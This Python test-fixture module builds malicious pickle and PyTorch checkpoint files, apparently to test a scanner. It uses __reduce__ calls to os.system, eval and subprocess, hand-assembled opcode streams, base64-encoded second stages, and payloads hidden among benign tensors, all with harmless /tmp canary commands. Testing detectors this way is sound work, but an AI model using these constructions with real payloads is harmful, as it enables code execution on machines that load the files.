"""Malicious pickle construction for every attack class under test.

Payloads are harmless canaries: each would create a sentinel file under
CANARY_DIR if it ever executed, so accidental execution is detectable
without risk. The canary path is a fixed constant because fixture bytes
must be reproducible.

Fixtures come from two builders: real ``__reduce__`` objects run through
the reference pickler (what actual malware does), and a small opcode
assembler for protocol-0 text pickles and import-only streams the
pickler cannot naturally emit.
"""

import base64
import io
import os
import pickle
import struct
import subprocess
from collections import OrderedDict

import numpy as np
import torch

from .containers import _Storage, _TensorView, save_handcrafted, seeded_array, save_with_torch

CANARY_DIR = "/tmp/mtdcdr-canary-3f9a"


def canary_path(tag: str) -> str:
    return f"{CANARY_DIR}/pwned-{tag}"


def canary_cmd(tag: str) -> str:
    return f"touch {canary_path(tag)}"


def canary_code(tag: str) -> str:
    return f"open({canary_path(tag)!r}, 'w').close()"


class _Reduce:
    """Pickles as callee(*args); never calls anything at dump time."""

    def __init__(self, callee, args):
        self.callee = callee
        self.args = args

    def __reduce__(self):
        return (self.callee, self.args)


def dumps_reduce(callee, args, protocol: int) -> bytes:
    return pickle.dumps(_Reduce(callee, args), protocol=protocol)


# --- tiny opcode assembler (protocol-0 flavored) -------------------------

def asm_global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def asm_str(s: str) -> bytes:
    return b"S" + repr(s).encode() + b"\n"


def asm_short_binunicode(s: str) -> bytes:
    raw = s.encode("utf-8")
    return b"\x8c" + struct.pack("<B", len(raw)) + raw


def asm_proto(n: int) -> bytes:
    return b"\x80" + struct.pack("<B", n)


MARK, TUPLE, REDUCE, STOP = b"(", b"t", b"R", b"."
TUPLE1, STACK_GLOBAL, MEMOIZE = b"\x85", b"\x93", b"\x94"


def proto0_call(module: str, name: str, arg: str) -> bytes:
    return asm_global(module, name) + MARK + asm_str(arg) + TUPLE + REDUCE + STOP


def proto4_stack_global_call(module: str, name: str, arg: str) -> bytes:
    body = (
        asm_short_binunicode(module)
        + MEMOIZE
        + asm_short_binunicode(name)
        + MEMOIZE
        + STACK_GLOBAL
        + MEMOIZE
        + asm_short_binunicode(arg)
        + TUPLE1
        + REDUCE
        + STOP
    )
    return asm_proto(4) + b"\x95" + struct.pack("<Q", len(body)) + body


# --- fixture builders -----------------------------------------------------

def raw_attacks() -> list[tuple[str, str, int, bytes]]:
    """(slug, attack_class, protocol, bytes) for raw-pickle carriers."""
    out: list[tuple[str, str, int, bytes]] = []

    # direct execution via __reduce__, the Fig.-1-style construction
    out.append(("os_system_p2", "direct_exec", 2, dumps_reduce(os.system, (canary_cmd("os-p2"),), 2)))
    out.append(("os_system_p4", "direct_exec", 4, dumps_reduce(os.system, (canary_cmd("os-p4"),), 4)))
    out.append(("eval_p2", "direct_exec", 2, dumps_reduce(eval, (canary_code("eval-p2"),), 2)))
    out.append(("exec_p4", "direct_exec", 4, dumps_reduce(exec, (canary_code("exec-p4"),), 4)))
    out.append(
        ("subprocess_popen_p2", "direct_exec", 2,
         dumps_reduce(subprocess.Popen, ((["touch", canary_path("popen")],)), 2))
    )
    out.append(
        ("subprocess_check_output_p4", "direct_exec", 4,
         dumps_reduce(subprocess.check_output, ((["touch", canary_path("chk")],)), 4))
    )
    out.append(("os_popen_p2", "direct_exec", 2, dumps_reduce(os.popen, (canary_cmd("popen2"),), 2)))

    # hand-assembled classics
    out.append(("os_system_p0_text", "direct_exec", 0, proto0_call("os", "system", canary_cmd("p0"))))
    out.append(("posix_system_p0_text", "direct_exec", 0, proto0_call("posix", "system", canary_cmd("posix"))))
    out.append(("eval_stack_global_p4", "direct_exec", 4, proto4_stack_global_call("builtins", "eval", canary_code("sg"))))
    out.append(
        ("runstring_p0_text", "direct_exec", 0,
         asm_global("numpy.testing._private.utils", "runstring")
         + MARK + asm_str(canary_code("runstr")) + b"}" + TUPLE + REDUCE + STOP)
    )
    out.append(("runpy_p0_text", "direct_exec", 0, proto0_call("runpy", "run_path", canary_path("runpy"))))

    # indirect execution
    out.append(("dunder_import_p2", "indirect_exec", 2, dumps_reduce(__import__, ("os",), 2)))
    out.append(("torch_load_p2", "indirect_exec", 2, dumps_reduce(torch.load, (canary_path("tl") + ".bin",), 2)))
    out.append(("getattr_p2", "indirect_exec", 2, dumps_reduce(getattr, (OrderedDict, "update"), 2)))

    # encoded second stage
    b64_payload = base64.b64encode(canary_code("b64").encode()).decode()
    evil = _Reduce(eval, (_Reduce(base64.b64decode, (b64_payload,)),))
    out.append(("eval_b64_chain_p2", "encoded", 2, pickle.dumps(evil, protocol=2)))
    out.append(("b64_decode_only_p4", "encoded", 4, dumps_reduce(base64.b64decode, (b64_payload,), 4)))

    # import-only streams (GLOBAL is dangerous on a real interpreter even
    # without REDUCE)
    out.append(("import_only_eval_p2", "direct_exec", 2, pickle.dumps(eval, protocol=2)))
    out.append(("import_only_subprocess_p4", "direct_exec", 4, pickle.dumps(subprocess.Popen, protocol=4)))

    # partial-load shapes: benign siblings around a malicious node
    out.append(
        ("partial_list_p2", "direct_exec", 2,
         pickle.dumps([1, _Reduce(os.system, (canary_cmd("pl"),)), "x"], protocol=2))
    )
    out.append(
        ("partial_dict_p4", "direct_exec", 4,
         pickle.dumps({"good": [1, 2], "bad": _Reduce(eval, (canary_code("pd"),))}, protocol=4))
    )

    # config-style wrappers: allowlisted imports carrying one hostile call
    arr = np.arange(6, dtype=np.float32).reshape(2, 3)
    wrapper = {
        "vocab": {"the": 0, "of": 1},
        "embedding": arr,
        "loader": _Reduce(torch.load, ("pytorch_model.bin",)),
    }
    out.append(("zpbrent_wrapper_p2", "config_style", 2, pickle.dumps(wrapper, protocol=2)))
    wrapper2 = {
        "table": np.linspace(0.0, 1.0, 8).astype(np.float64),
        "hook": _Reduce(getattr, (OrderedDict, "fromkeys")),
    }
    out.append(("zpbrent_wrapper_p4", "config_style", 4, pickle.dumps(wrapper2, protocol=4)))

    return out


def container_attacks(seed: int) -> list[tuple[str, str, bytes, "OrderedDict[str, np.ndarray]"]]:
    """(slug, attack_class, bytes, benign tensors) for ZIP carriers.

    The benign tensors ride along with each attack; they are the ground
    truth for partial-load recovery checks.
    """
    out: list[tuple[str, str, bytes, OrderedDict]] = []

    w = seeded_array(seed, 1001, "f32", (4, 3))
    b = seeded_array(seed, 1002, "f64", (4,))

    evil_sd = OrderedDict()
    evil_sd["lin.weight"] = torch.from_numpy(np.ascontiguousarray(w))
    evil_sd["lin.bias"] = torch.from_numpy(np.ascontiguousarray(b))
    evil_sd["hook"] = _Reduce(os.system, (canary_cmd("ct-sys"),))
    out.append(("container_mixed_system", "direct_exec", save_with_torch_obj(evil_sd),
                OrderedDict([("lin.weight", w), ("lin.bias", b)])))

    emb = seeded_array(seed, 1003, "f32", (5, 2))
    evil_sd2 = OrderedDict()
    evil_sd2["emb.weight"] = torch.from_numpy(np.ascontiguousarray(emb))
    evil_sd2["stage2"] = _Reduce(eval, (canary_code("ct-eval"),))
    out.append(("container_mixed_eval", "direct_exec", save_with_torch_obj(evil_sd2),
                OrderedDict([("emb.weight", emb)])))

    out.append(("container_only_evil", "direct_exec",
                save_with_torch_obj(_Reduce(os.system, (canary_cmd("ct-only"),))),
                OrderedDict()))

    # unreduced import riding along with a valid tensor
    w4 = seeded_array(seed, 1004, "f32", (2, 2))
    sd3 = OrderedDict()
    sd3["w"] = torch.from_numpy(np.ascontiguousarray(w4))
    sd3["fn"] = eval
    out.append(("container_import_only", "indirect_exec", save_with_torch_obj(sd3),
                OrderedDict([("w", w4)])))

    # handcrafted carrier with encoded second stage next to a tensor
    arr = seeded_array(seed, 1005, "f32", (3,))
    st = _Storage("0", "f32", arr.tobytes())
    b64_payload = base64.b64encode(canary_code("ct-b64").encode()).decode()
    obj = OrderedDict()
    obj["w"] = _TensorView(st, 0, (3,), (1,))
    obj["stage"] = _Reduce(eval, (_Reduce(base64.b64decode, (b64_payload,)),))
    out.append(
        ("container_encoded_stage", "encoded",
         save_handcrafted(obj, OrderedDict([("0", st)]), prefix="archive"),
         OrderedDict([("w", arr)]))
    )
    return out


def save_with_torch_obj(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()
